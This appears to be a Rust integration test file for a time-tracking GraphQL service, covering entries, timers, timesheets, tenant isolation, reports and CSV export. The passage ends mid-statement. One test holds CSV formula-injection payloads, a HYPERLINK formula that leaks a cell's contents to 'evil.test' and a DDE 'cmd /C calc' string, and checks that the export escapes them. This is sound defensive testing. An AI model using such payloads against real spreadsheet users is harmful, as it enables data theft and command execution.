//! Time entries, timers, timesheets and reports through the API, against PostgreSQL.

use crate::common::{TestApp, assert_error};
use axum::http::StatusCode;
use diesel::QueryableByName;
use diesel_async::RunQueryDsl;
use rust_decimal::Decimal;
use serde_json::{Value, json};
use std::str::FromStr;

const CREATE_ENTRY: &str = "mutation($i: CreateTimeEntryInput!) { createTimeEntry(input: $i) { \
    id date minutes rate amount billable status startedAt endedAt } }";
const UPDATE_ENTRY: &str = "mutation($id: ID!, $i: UpdateTimeEntryInput!) { updateTimeEntry(id: $id, input: $i) { \
    id minutes notes } }";
const DELETE_ENTRY: &str = "mutation($id: ID!) { deleteTimeEntry(id: $id) }";
const START_TIMER: &str =
    "mutation($i: StartTimerInput!) { startTimer(input: $i) { id running startedAt date } }";
const STOP_TIMER: &str = "mutation { stopTimer { id running minutes startedAt endedAt } }";

/// A snapshot of a tenant's entries, to show a refused mutation changed nothing.
async fn entries_state(app: &TestApp, schema: &str) -> Vec<String> {
    #[derive(QueryableByName)]
    struct Row {
        #[diesel(sql_type = diesel::sql_types::Text)]
        row: String,
    }
    let mut conn = app.raw_conn().await;
    diesel::sql_query(format!(
        "SELECT e::text AS row FROM {schema}.time_entries e ORDER BY id"
    ))
    .load::<Row>(&mut conn)
    .await
    .unwrap()
    .into_iter()
    .map(|r| r.row)
    .collect()
}

#[tokio::test]
async fn every_rule_broken_once_gives_its_code_and_changes_nothing() {
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    let member = app.create_user(&t, &admin, "dev@acme.example", "MEMBER").await;
    let manager = app.create_user(&t, &admin, "boss@acme.example", "MANAGER").await;
    let c = app.as_user(&t, &admin).catalog("100.00").await;
    let member_id = app.as_user(&t, &member).my_id().await;
    // The member's own rate on the project overrides the project's.
    app.as_user(&t, &admin)
        .member(&c.project, &member_id, Some("120"))
        .await;

    let first = app
        .gql(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "taskId": c.task, "date": "2026-11-23", "minutes": 90 } }),
        )
        .await["createTimeEntry"]
        .clone();
    assert_eq!(first["minutes"], 90);
    assert_eq!(first["rate"], "120");
    assert_eq!(first["amount"], "180");
    assert_eq!(first["billable"], true);
    assert_eq!(first["status"], "DRAFT");

    // The rate is fixed on the entry: a later project rate leaves it alone.
    app.gql(
        &t.host,
        Some(&admin),
        "mutation($id: ID!) { updateProject(id: $id, input: {hourlyRate: \"999\"}) { id } }",
        json!({ "id": c.project }),
    )
    .await;

    let timed = app
        .gql(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "startedAt": "2026-11-24T09:00:00Z",
                            "endedAt": "2026-11-24T10:00:00Z" } }),
        )
        .await["createTimeEntry"]
        .clone();
    assert_eq!(timed["minutes"], 60);
    assert_eq!(timed["date"], "2026-11-24");
    let before = entries_state(&app, "acme").await;
    assert_eq!(before.len(), 2);

    // An off-grid duration (the interval is 15 minutes).
    let (_, error) = app
        .gql_error(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "date": "2026-11-23", "minutes": 50 } }),
        )
        .await;
    assert_error(&error, "BAD_USER_INPUT", Some("input.minutes"));
    let (_, error) = app
        .gql_error(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "startedAt": "2026-11-25T09:00:00Z",
                            "endedAt": "2026-11-25T09:20:00Z" } }),
        )
        .await;
    assert_error(&error, "BAD_USER_INPUT", Some("input.endedAt"));

    // An overlap with the member's own timed entry.
    let (_, error) = app
        .gql_error(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "startedAt": "2026-11-24T09:30:00Z",
                            "endedAt": "2026-11-24T10:30:00Z" } }),
        )
        .await;
    assert_error(&error, "CONFLICT", Some("input.startedAt"));
    // Moving an entry onto another is an overlap as well.
    let other = app
        .gql(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "startedAt": "2026-11-24T11:00:00Z",
                            "endedAt": "2026-11-24T11:30:00Z" } }),
        )
        .await["createTimeEntry"]["id"]
        .clone();
    let with_other = entries_state(&app, "acme").await;
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&member),
            UPDATE_ENTRY,
            json!({ "id": other, "i": { "startedAt": "2026-11-24T09:45:00Z" } }),
        )
        .await;
    assert_eq!(code, "CONFLICT");
    assert_eq!(entries_state(&app, "acme").await, with_other);
    app.gql(&t.host, Some(&member), DELETE_ENTRY, json!({ "id": other }))
        .await;
    assert_eq!(entries_state(&app, "acme").await, before);

    // Someone else's time at the same hour is fine (the rule is per user).
    let admins = app
        .gql(
            &t.host,
            Some(&admin),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "startedAt": "2026-11-24T09:30:00Z",
                            "endedAt": "2026-11-24T10:30:00Z", "notes": "admin's" } }),
        )
        .await["createTimeEntry"]
        .clone();
    assert_eq!(
        admins["rate"], "999",
        "the admin has no override: the project's rate now"
    );
    let before = entries_state(&app, "acme").await;

    // A second timer.
    app.gql(
        &t.host,
        Some(&member),
        START_TIMER,
        json!({ "i": { "projectId": c.project } }),
    )
    .await;
    let with_timer = entries_state(&app, "acme").await;
    assert_eq!(with_timer.len(), before.len() + 1);
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&member),
            START_TIMER,
            json!({ "i": { "projectId": c.project } }),
        )
        .await;
    assert_eq!(code, "CONFLICT");
    assert_eq!(entries_state(&app, "acme").await, with_timer);
    let stopped = app.gql(&t.host, Some(&member), STOP_TIMER, json!({})).await;
    // Its date is today's, whenever the test runs: out of the way of the week below.
    app.gql(
        &t.host,
        Some(&member),
        DELETE_ENTRY,
        json!({ "id": stopped["stopTimer"]["id"] }),
    )
    .await;
    let before = entries_state(&app, "acme").await;

    // A member editing (or deleting, or logging) someone else's time: to them the entry
    // is as one that does not exist, the same code and message.
    let missing =
        crowdminder::graphql::support::global_id(crowdminder::graphql::support::NodeType::TimeEntry, 999_999);
    for (query, vars) in [
        (UPDATE_ENTRY, json!({ "i": { "notes": "mine now" } })),
        (DELETE_ENTRY, json!({})),
    ] {
        let with = |id: &Value| {
            let mut vars = vars.clone();
            vars["id"] = id.clone();
            vars
        };
        let (code, others) = app
            .gql_error(&t.host, Some(&member), query, with(&admins["id"]))
            .await;
        assert_eq!(code, "NOT_FOUND", "{others}");
        let (code, absent) = app
            .gql_error(&t.host, Some(&member), query, with(&json!(missing.as_str())))
            .await;
        assert_eq!(code, "NOT_FOUND", "{absent}");
        assert_eq!(others["message"], absent["message"]);
    }
    let admin_id = app.as_user(&t, &admin).my_id().await;
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "userId": admin_id, "projectId": c.project, "date": "2026-11-23", "minutes": 15 } }),
        )
        .await;
    assert_eq!(code, "FORBIDDEN");
    assert_eq!(entries_state(&app, "acme").await, before);
    // Nor does the member see it.
    let node = app
        .gql(
            &t.host,
            Some(&member),
            "query($id: ID!) { node(id: $id) { id } }",
            json!({ "id": admins["id"] }),
        )
        .await;
    assert!(node["node"].is_null());
    let seen = app
        .gql(
            &t.host,
            Some(&member),
            "{ timeEntries(first: 100) { edges { node { notes user { email } } } } }",
            json!({}),
        )
        .await;
    let seen = seen["timeEntries"]["edges"].as_array().unwrap().clone();
    assert_eq!(seen.len(), 2);
    assert!(
        seen.iter()
            .all(|e| e["node"]["user"]["email"] == "dev@acme.example")
    );

    // An edit of an approved entry.
    let sheet = app
        .gql(
            &t.host,
            Some(&member),
            "mutation { submitTimesheet(weekStart: \"2026-11-23\") { id status minutes } }",
            json!({}),
        )
        .await["submitTimesheet"]
        .clone();
    assert_eq!(sheet["status"], "SUBMITTED");
    let approved = app
        .gql(
            &t.host,
            Some(&manager),
            "mutation($id: ID!) { approveTimesheet(id: $id) { status decidedBy { email } } }",
            json!({ "id": sheet["id"] }),
        )
        .await;
    assert_eq!(approved["approveTimesheet"]["status"], "APPROVED");
    let before = entries_state(&app, "acme").await;
    let (code, error) = app
        .gql_error(
            &t.host,
            Some(&member),
            UPDATE_ENTRY,
            json!({ "id": first["id"], "i": { "minutes": 30 } }),
        )
        .await;
    assert_eq!(code, "CONFLICT");
    assert!(error["message"].as_str().unwrap().contains("approved"));
    let (code, _) = app
        .gql_error(&t.host, Some(&admin), DELETE_ENTRY, json!({ "id": first["id"] }))
        .await;
    assert_eq!(code, "CONFLICT", "approved is locked for admins too");
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "date": "2026-11-26", "minutes": 15 } }),
        )
        .await;
    assert_eq!(code, "CONFLICT", "nothing new in an approved week");
    assert_eq!(entries_state(&app, "acme").await, before);
    assert_eq!(
        app.count("SELECT count(*) AS n FROM acme.time_entries WHERE status = 'APPROVED'")
            .await,
        2
    );
    let _ = c.client;
}

#[tokio::test]
async fn timesheets_are_submitted_rejected_and_approved_by_someone_else() {
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    let member = app.create_user(&t, &admin, "dev@acme.example", "MEMBER").await;
    let manager = app.create_user(&t, &admin, "boss@acme.example", "MANAGER").await;
    let c = app.as_user(&t, &admin).catalog("100").await;
    let entry = app
        .gql(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "date": "2026-11-25", "minutes": 120 } }),
        )
        .await["createTimeEntry"]["id"]
        .clone();

    // Weeks start on Monday for a Monday-to-Friday week.
    let (_, error) = app
        .gql_error(
            &t.host,
            Some(&member),
            "mutation { submitTimesheet(weekStart: \"2026-11-24\") { id } }",
            json!({}),
        )
        .await;
    assert_error(&error, "BAD_USER_INPUT", Some("weekStart"));
    let sheet = app
        .gql(
            &t.host,
            Some(&member),
            "mutation { submitTimesheet(weekStart: \"2026-11-23\") { id minutes weekEnd } }",
            json!({}),
        )
        .await["submitTimesheet"]
        .clone();
    assert_eq!(sheet["minutes"], 120);
    assert_eq!(sheet["weekEnd"], "2026-11-29");
    // Submitted: locked until decided.
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&member),
            UPDATE_ENTRY,
            json!({ "id": entry, "i": { "notes": "more" } }),
        )
        .await;
    assert_eq!(code, "CONFLICT");
    // Members do not decide; a reason is required.
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&member),
            "mutation($id: ID!) { approveTimesheet(id: $id) { id } }",
            json!({ "id": sheet["id"] }),
        )
        .await;
    assert_eq!(code, "FORBIDDEN");
    let (_, error) = app
        .gql_error(
            &t.host,
            Some(&manager),
            "mutation($id: ID!) { rejectTimesheet(id: $id, reason: \"  \") { id } }",
            json!({ "id": sheet["id"] }),
        )
        .await;
    assert_error(&error, "BAD_USER_INPUT", Some("reason"));
    let rejected = app
        .gql(
            &t.host,
            Some(&manager),
            "mutation($id: ID!) { rejectTimesheet(id: $id, reason: \"Wednesday is missing\") { status rejectionReason } }",
            json!({ "id": sheet["id"] }),
        )
        .await;
    assert_eq!(rejected["rejectTimesheet"]["status"], "REJECTED");
    assert_eq!(
        rejected["rejectTimesheet"]["rejectionReason"],
        "Wednesday is missing"
    );
    // Back to a draft: editable, then submitted again and approved.
    let updated = app
        .gql(
            &t.host,
            Some(&member),
            UPDATE_ENTRY,
            json!({ "id": entry, "i": { "minutes": 180, "notes": "fixed" } }),
        )
        .await;
    assert_eq!(updated["updateTimeEntry"]["minutes"], 180);
    app.gql(
        &t.host,
        Some(&member),
        "mutation { submitTimesheet(weekStart: \"2026-11-23\") { id } }",
        json!({}),
    )
    .await;
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&member),
            "mutation { submitTimesheet(weekStart: \"2026-11-23\") { id } }",
            json!({}),
        )
        .await;
    assert_eq!(code, "CONFLICT", "submitted twice");

    // A manager's own week goes to someone else.
    app.gql(
        &t.host,
        Some(&manager),
        CREATE_ENTRY,
        json!({ "i": { "projectId": c.project, "date": "2026-11-25", "minutes": 60 } }),
    )
    .await;
    let own = app
        .gql(
            &t.host,
            Some(&manager),
            "mutation { submitTimesheet(weekStart: \"2026-11-23\") { id } }",
            json!({}),
        )
        .await["submitTimesheet"]["id"]
        .clone();
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&manager),
            "mutation($id: ID!) { approveTimesheet(id: $id) { id } }",
            json!({ "id": own }),
        )
        .await;
    assert_eq!(code, "FORBIDDEN");
    let waiting = app
        .gql(
            &t.host,
            Some(&manager),
            "{ timesheets(filter: {status: SUBMITTED}) { edges { node { id user { email } minutes } } } }",
            json!({}),
        )
        .await;
    assert_eq!(waiting["timesheets"]["edges"].as_array().unwrap().len(), 2);
    app.gql(
        &t.host,
        Some(&manager),
        "mutation($id: ID!) { approveTimesheet(id: $id) { id } }",
        json!({ "id": sheet["id"] }),
    )
    .await;
    app.gql(
        &t.host,
        Some(&admin),
        "mutation($id: ID!) { approveTimesheet(id: $id) { id } }",
        json!({ "id": own }),
    )
    .await;
    let statuses = app
        .gql(
            &t.host,
            Some(&admin),
            "{ timeEntries { edges { node { status minutes } } } }",
            json!({}),
        )
        .await;
    let statuses: Vec<Value> = statuses["timeEntries"]["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["node"]["status"].clone())
        .collect();
    assert_eq!(statuses, vec![json!("APPROVED"), json!("APPROVED")]);
    // Members see only their own timesheets.
    let mine = app
        .gql(
            &t.host,
            Some(&member),
            "{ timesheets { edges { node { user { email } status } } } }",
            json!({}),
        )
        .await;
    assert_eq!(mine["timesheets"]["edges"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn a_stopped_timer_rounds_up_and_the_next_starts_where_it_ended() {
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    let c = app.as_user(&t, &admin).catalog("80").await;
    let running = app
        .gql(&t.host, Some(&admin), "{ runningTimer { id } }", json!({}))
        .await;
    assert!(running["runningTimer"].is_null());
    let timer = app
        .gql(
            &t.host,
            Some(&admin),
            START_TIMER,
            json!({ "i": { "projectId": c.project, "taskId": c.task, "notes": "pairing" } }),
        )
        .await["startTimer"]
        .clone();
    assert_eq!(timer["running"], true);
    // Nothing can be logged after a running timer's start.
    let (code, _) = app
        .gql_error(
            &t.host,
            Some(&admin),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "startedAt": "2099-01-05T09:00:00Z",
                            "endedAt": "2099-01-05T10:00:00Z" } }),
        )
        .await;
    assert_eq!(code, "CONFLICT");
    // Seven minutes ago: it counts one whole interval.
    app.exec("UPDATE acme.time_entries SET started_at = date_trunc('minute', now()) - interval '7 minutes'")
        .await;
    let running = app
        .gql(&t.host, Some(&admin), "{ runningTimer { id notes } }", json!({}))
        .await;
    assert_eq!(running["runningTimer"]["notes"], "pairing");
    let stopped = app.gql(&t.host, Some(&admin), STOP_TIMER, json!({})).await["stopTimer"].clone();
    assert_eq!(stopped["running"], false);
    assert_eq!(stopped["minutes"], 15);
    let start = chrono::DateTime::parse_from_rfc3339(stopped["startedAt"].as_str().unwrap()).unwrap();
    let end = chrono::DateTime::parse_from_rfc3339(stopped["endedAt"].as_str().unwrap()).unwrap();
    assert_eq!((end - start).num_minutes(), 15);
    // The rounded-up end lies ahead of now; the next timer starts there, not on top of it.
    let next = app
        .gql(
            &t.host,
            Some(&admin),
            START_TIMER,
            json!({ "i": { "projectId": c.project } }),
        )
        .await["startTimer"]
        .clone();
    assert_eq!(next["startedAt"], stopped["endedAt"]);
    app.gql(&t.host, Some(&admin), STOP_TIMER, json!({})).await;
    let (code, _) = app.gql_error(&t.host, Some(&admin), STOP_TIMER, json!({})).await;
    assert_eq!(code, "NOT_FOUND", "no timer left to stop");
}

#[tokio::test]
async fn imports_are_idempotent_by_external_reference() {
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    let c = app.as_user(&t, &admin).catalog("80").await;
    let input = json!({ "i": { "projectId": c.project, "date": "2026-11-02", "minutes": 45,
                                "externalRef": "sheet-1:row-7" } });
    let first = app.gql(&t.host, Some(&admin), CREATE_ENTRY, input.clone()).await;
    let again = app.gql(&t.host, Some(&admin), CREATE_ENTRY, input).await;
    assert_eq!(first["createTimeEntry"]["id"], again["createTimeEntry"]["id"]);
    assert_eq!(app.count("SELECT count(*) AS n FROM acme.time_entries").await, 1);
}

/// Minutes and amount of every entry a query returns, summed.
fn sum_entries(entries: &[Value]) -> (i64, i64, Decimal) {
    let mut billable = 0;
    let mut non_billable = 0;
    let mut amount = Decimal::ZERO;
    for e in entries {
        let minutes = e["node"]["minutes"].as_i64().unwrap();
        if e["node"]["billable"].as_bool().unwrap() {
            billable += minutes;
        } else {
            non_billable += minutes;
        }
        amount += Decimal::from_str(e["node"]["amount"].as_str().unwrap()).unwrap();
    }
    (billable, non_billable, amount)
}

fn decimal(v: &Value) -> Decimal {
    Decimal::from_str(v.as_str().unwrap()).unwrap()
}

#[tokio::test]
async fn report_totals_equal_their_entries_across_dst_and_a_month_in_auckland() {
    let app = TestApp::new().await;
    let t = app.create_tenant("kiwi").await;
    let admin = app.login_admin(&t).await;
    app.as_user(&t, &admin)
        .settings(
            json!({ "timeZone": "Pacific/Auckland", "timecaptureIntervalMinutes": 1, "currency": "NZD" }),
        )
        .await;
    let c = app.as_user(&t, &admin).catalog("333.33").await;
    let entries = [
        // 01:00 NZST to 04:00 NZDT on 27 September, the night clocks go forward: 2 hours.
        ("2026-09-26T13:00:00Z", "2026-09-26T15:00:00Z", true),
        // 22:00 to 23:07 NZDT on 30 September.
        ("2026-09-30T09:00:00Z", "2026-09-30T10:07:00Z", true),
        // 00:30 NZDT on 1 October: still 30 September in UTC.
        ("2026-09-30T11:30:00Z", "2026-09-30T12:37:00Z", true),
        ("2026-10-01T20:00:00Z", "2026-10-01T20:07:00Z", false),
        // 02:30 NZDT, 5 April 2026, before the clocks go back at 03:00: out of range.
        ("2026-04-04T13:30:00Z", "2026-04-04T14:00:00Z", true),
    ];
    let mut dates = Vec::new();
    for (start, end, billable) in entries {
        let created = app
            .gql(
                &t.host,
                Some(&admin),
                CREATE_ENTRY,
                json!({ "i": { "projectId": c.project, "startedAt": start, "endedAt": end, "billable": billable } }),
            )
            .await;
        dates.push(created["createTimeEntry"]["date"].as_str().unwrap().to_owned());
    }
    assert_eq!(
        dates,
        [
            "2026-09-27",
            "2026-09-30",
            "2026-10-01",
            "2026-10-02",
            "2026-04-05"
        ]
    );
    // A duration on the last day of September too.
    app.gql(
        &t.host,
        Some(&admin),
        CREATE_ENTRY,
        json!({ "i": { "projectId": c.project, "date": "2026-09-30", "minutes": 7 } }),
    )
    .await;

    let listed = app
        .gql(
            &t.host,
            Some(&admin),
            "{ timeEntries(first: 100, filter: {from: \"2026-09-01\", to: \"2026-10-31\"}) { edges { node { date minutes billable amount } } } }",
            json!({}),
        )
        .await;
    let listed = listed["timeEntries"]["edges"].as_array().unwrap().clone();
    assert_eq!(listed.len(), 5);
    let (billable, non_billable, amount) = sum_entries(&listed);
    assert_eq!((billable, non_billable), (120 + 67 + 67 + 7, 7));
    // Each entry rounded to the cent, then summed: 666.66 + 372.22 (372.2185) + 372.22 +
    // 38.89 (38.8885).
    assert_eq!(amount, Decimal::from_str("1449.99").unwrap());

    let report = app
        .gql(
            &t.host,
            Some(&admin),
            "{ billableHours(from: \"2026-09-01\", to: \"2026-10-31\", groupBy: [MONTH, DAY]) { \
               rows { month day billableMinutes nonBillableMinutes amount currency entries } \
               totals { billableMinutes nonBillableMinutes amount billableHours entries } } }",
            json!({}),
        )
        .await;
    let rows = report["billableHours"]["rows"].as_array().unwrap();
    let days: Vec<(&str, &str, i64)> = rows
        .iter()
        .map(|r| {
            (
                r["month"].as_str().unwrap(),
                r["day"].as_str().unwrap(),
                r["billableMinutes"].as_i64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        days,
        [
            ("2026-09-01", "2026-09-27", 120),
            ("2026-09-01", "2026-09-30", 74),
            ("2026-10-01", "2026-10-01", 67),
            ("2026-10-01", "2026-10-02", 0),
        ]
    );
    let totals = &report["billableHours"]["totals"];
    assert_eq!(totals["billableMinutes"], billable);
    assert_eq!(totals["nonBillableMinutes"], non_billable);
    assert_eq!(decimal(&totals["amount"]), amount);
    assert_eq!(totals["entries"], 5);
    let row_sum: Decimal = rows.iter().map(|r| decimal(&r["amount"])).sum();
    assert_eq!(row_sum, amount);
    assert_eq!(rows[0]["currency"], "NZD");

    // By client and month: the same totals.
    let by_month = app
        .gql(
            &t.host,
            Some(&admin),
            "{ billableHours(from: \"2026-09-01\", to: \"2026-10-31\", groupBy: [CLIENT, MONTH]) { \
               rows { client { name } month billableMinutes amount } totals { billableMinutes amount } } }",
            json!({}),
        )
        .await;
    let rows = by_month["billableHours"]["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["client"]["name"], "Globex");
    assert_eq!(rows[0]["billableMinutes"], 120 + 67 + 7);
    assert_eq!(rows[1]["billableMinutes"], 67);
    assert_eq!(decimal(&by_month["billableHours"]["totals"]["amount"]), amount);

    // The CSV holds the same rows.
    let (status, csv) = get_csv(
        &app,
        &t.host,
        Some(&admin),
        "from=2026-09-01&to=2026-10-31&groupBy=CLIENT,MONTH&totals=true",
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0],
        "client,month,billable_hours,non_billable_hours,billable_minutes,non_billable_minutes,amount,currency,entries"
    );
    assert_eq!(lines[1], "Globex,2026-09,3.23,0,194,0,1077.77,NZD,3");
    assert_eq!(lines[2], "Globex,2026-10,1.12,0.12,67,7,372.22,NZD,2");
    assert_eq!(lines[3], "TOTAL,,4.35,0.12,261,7,1449.99,NZD,5");
    assert_eq!(lines.len(), 4);
    let _ = c.client;
}

/// Names a spreadsheet would run as formulas come out of the CSV as text: a leading `'`,
/// the rest as written (quotes escaped by the CSV's own rules).
#[tokio::test]
async fn names_that_would_be_formulas_come_out_of_the_csv_as_text() {
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    let build = app.as_user(&t, &admin);
    let hyperlink = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")";
    let command = "@SUM(1+1)*cmd|' /C calc'!A0";
    let first = build.client(hyperlink).await;
    let second = build.client(command).await;
    let plus = build
        .project_with(json!({ "clientId": first, "name": "+cmd", "code": "-1", "hourlyRate": "100" }))
        .await;
    let plain = build.project(&second, "Website", "100").await;
    build.log(&plus, "2026-11-02", 60).await;
    build.log(&plain, "2026-11-03", 30).await;

    let (status, csv) = get_csv(
        &app,
        &t.host,
        Some(&admin),
        "from=2026-11-01&to=2026-11-30&groupBy=CLIENT,PROJECT",
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let names: std::collections::HashSet<(String, String, String)> = rows
        .iter()
        .map(|r| (r[0].clone(), r[1].clone(), r[2].clone()))
        .collect();
    assert_eq!(
        names,
        [
            (format!("'{hyperlink}"), "'-1".to_owned(), "'+cmd".to_owned()),
            (format!("'{command}"), String::new(), "Website".to_owned()),
        ]
        .into_iter()
        .collect(),
        "{csv}"
    );
    // The figures are left as they are.
    assert!(rows.iter().any(|r| r[5] == "60"), "{csv}");
    // The GraphQL report gives the names as stored.
    let report = app
        .gql(
            &t.host,
            Some(&admin),
            "{ billableHours(from: \"2026-11-01\", to: \"2026-11-30\", groupBy: [CLIENT]) { rows { client { name } } } }",
            json!({}),
        )
        .await;
    let names: Vec<&str> = report["billableHours"]["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["client"]["name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&hyperlink) && names.contains(&command), "{report}");
}

async fn get_csv(app: &TestApp, host: &str, token: Option<&str>, query: &str) -> (StatusCode, String) {
    let (status, _, bytes) = app
        .get_raw(host, token, &format!("/reports/billable-hours.csv?{query}"))
        .await;
    (status, String::from_utf8(bytes).unwrap())
}

#[tokio::test]
async fn two_tenants_with_the_same_ids_see_only_their_own_time() {
    let app = TestApp::new().await;
    let a = app.create_tenant("tenant_a").await;
    let b = app.create_tenant("tenant_b").await;
    let mut tokens = Vec::new();
    let mut entry_ids = Vec::new();
    for (t, notes, minutes) in [(&a, "work for A", 60), (&b, "work for B", 120)] {
        let admin = app.login_admin(t).await;
        let c = app.as_user(t, &admin).catalog("100").await;
        let entry = app
            .gql(
                &t.host,
                Some(&admin),
                CREATE_ENTRY,
                json!({ "i": { "projectId": c.project, "date": "2026-11-02", "minutes": minutes, "notes": notes } }),
            )
            .await["createTimeEntry"]["id"]
            .clone();
        entry_ids.push(entry);
        tokens.push(admin);
    }
    assert_eq!(entry_ids[0], entry_ids[1], "the same ids in both schemas");
    for (i, (t, notes, minutes)) in [(&a, "work for A", 60), (&b, "work for B", 120)]
        .into_iter()
        .enumerate()
    {
        let token = &tokens[i];
        let listed = app
            .gql(
                &t.host,
                Some(token),
                "query($id: ID!) { timeEntries { edges { node { notes project { client { name } } } } } \
                   node(id: $id) { ... on TimeEntry { notes } } \
                   billableHours(from: \"2026-11-01\", to: \"2026-11-30\") { totals { billableMinutes } } }",
                json!({ "id": entry_ids[i] }),
            )
            .await;
        let edges = listed["timeEntries"]["edges"].as_array().unwrap();
        assert_eq!(edges.len(), 1);
        assert_eq!(edges[0]["node"]["notes"], notes);
        assert_eq!(listed["node"]["notes"], notes);
        assert_eq!(listed["billableHours"]["totals"]["billableMinutes"], minutes);
        let (status, csv) = get_csv(
            &app,
            &t.host,
            Some(token),
            "from=2026-11-01&to=2026-11-30&groupBy=CLIENT",
        )
        .await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(csv.lines().count(), 2);
        assert!(
            csv.lines().nth(1).unwrap().contains(&format!(",{minutes},")),
            "{csv}"
        );
    }
    // A's token on B's host is refused, in GraphQL and in the CSV.
    let (code, _) = app
        .gql_error(
            &b.host,
            Some(&tokens[0]),
            "{ timeEntries { edges { node { id } } } }",
            json!({}),
        )
        .await;
    assert_eq!(code, "UNAUTHENTICATED");
    let (status, body) = get_csv(&app, &b.host, Some(&tokens[0]), "from=2026-11-01&to=2026-11-30").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(body.contains("UNAUTHENTICATED"));
    let (status, _) = get_csv(&app, &a.host, None, "from=2026-11-01&to=2026-11-30").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, body) = get_csv(
        &app,
        &a.host,
        Some(&tokens[0]),
        "from=2026-11-01&to=2026-11-30&groupBy=YEAR",
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(body.contains("groupBy"));
}

#[tokio::test]
async fn utilization_is_billable_hours_over_working_days() {
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    let member = app.create_user(&t, &admin, "dev@acme.example", "MEMBER").await;
    let c = app.as_user(&t, &admin).catalog("100").await;
    for (date, minutes, billable) in [
        ("2026-11-23", 480, true),
        ("2026-11-24", 240, true),
        ("2026-11-24", 120, false),
    ] {
        app.gql(
            &t.host,
            Some(&member),
            CREATE_ENTRY,
            json!({ "i": { "projectId": c.project, "date": date, "minutes": minutes, "billable": billable } }),
        )
        .await;
    }
    let report = app
        .gql(
            &t.host,
            Some(&admin),
            "{ utilization(from: \"2026-11-23\", to: \"2026-11-29\") { workingDays rows { user { email } billableHours nonBillableHours availableHours utilization } } }",
            json!({}),
        )
        .await;
    let u = &report["utilization"];
    assert_eq!(u["workingDays"], 5);
    let rows = u["rows"].as_array().unwrap();
    let dev = rows
        .iter()
        .find(|r| r["user"]["email"] == "dev@acme.example")
        .unwrap();
    assert_eq!(dev["billableHours"], "12");
    assert_eq!(dev["nonBillableHours"], "2");
    assert_eq!(dev["availableHours"], "40");
    assert_eq!(dev["utilization"], "0.3");
    // A Sunday-to-Thursday week of 7.5 hour days.
    app.as_user(&t, &admin).settings(json!({ "workWeek": ["SUNDAY", "MONDAY", "TUESDAY", "WEDNESDAY", "THURSDAY"], "billableHoursInWorkingDay": "7.5" }),
    )
    .await;
    let mine = app
        .gql(
            &t.host,
            Some(&member),
            "{ utilization(from: \"2026-11-22\", to: \"2026-11-28\") { workingDays rows { billableHours availableHours utilization } } }",
            json!({}),
        )
        .await;
    let u = &mine["utilization"];
    assert_eq!(u["workingDays"], 5);
    assert_eq!(u["rows"].as_array().unwrap().len(), 1, "a member sees their own");
    assert_eq!(u["rows"][0]["availableHours"], "37.5");
    assert_eq!(u["rows"][0]["utilization"], "0.32");
}

#[tokio::test]
async fn a_page_of_entries_with_its_relations_costs_the_same_statements_for_5_or_100() {
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    app.create_user(&t, &admin, "dev@acme.example", "MEMBER").await;
    let _ = app.as_user(&t, &admin).catalog("100").await;
    // 20 clients with a project and a task each; 120 entries spread over them and two users.
    app.exec("INSERT INTO acme.clients (name) SELECT 'Client ' || i FROM generate_series(1, 20) i;
         INSERT INTO acme.projects (client_id, name, hourly_rate) SELECT id, 'Project of ' || name, 50 FROM acme.clients;
         INSERT INTO acme.tasks (project_id, name) SELECT id, 'Work' FROM acme.projects;
         INSERT INTO acme.time_entries (user_id, project_id, task_id, work_date, minutes, billable, hourly_rate)
         SELECT 1 + i % 2, p.id, t.id, date '2026-11-01' + i % 30, 60, true, 50
